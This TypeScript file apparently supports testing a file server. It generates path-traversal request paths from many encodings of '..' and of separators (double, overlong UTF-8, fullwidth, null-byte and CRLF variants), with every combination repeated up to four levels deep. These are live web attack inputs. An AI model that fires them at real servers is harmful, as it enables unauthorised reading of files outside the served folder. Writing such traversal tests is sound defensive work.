/** Ways to write "the parent folder" that decoders, normalisers and Windows have each accepted. */
const PARENTS = [
  '..',
  '%2e%2e',
  '%2E%2e',
  '.%2e',
  '%2e.',
  '%252e%252e',
  '%c0%ae%c0%ae',
  '%uff0e%uff0e',
  '\uff0e\uff0e',
  '...',
];
/** Ways to write a path separator. */
const SEPARATORS = ['/', '%2f', '%2F', '%5c', '\\', '%252f', '%c0%af', '//'];

/**
 * Request paths (starting with `/`) that try to climb out of a served folder to `target`: every
 * parent spelling with every separator, one to four levels up, plus a few classics.
 */
export function traversalPaths(target: string): string[] {
  const paths = new Set<string>();
  for (const parent of PARENTS) {
    for (const separator of SEPARATORS) {
      for (let depth = 1; depth <= 4; depth++) {
        paths.add(`/${`${parent}${separator}`.repeat(depth)}${target}`);
        paths.add(`/assets${separator}${`${parent}${separator}`.repeat(depth)}${target}`);
      }
    }
  }
  for (const classic of [
    `/%00/../${target}`,
    `/index.html%00/../../${target}`,
    `/./../${target}`,
    `/assets/./../../${target}`,
    `/..;/${target}`,
    `/..%00/${target}`,
    `/..%0d%0a/${target}`,
    `/%2e%2e%2f%2e%2e%2f%2e%2e%2f${target}`,
    `/${'../'.repeat(40)}${target}`,
  ]) {
    paths.add(classic);
  }
  return [...paths];
}
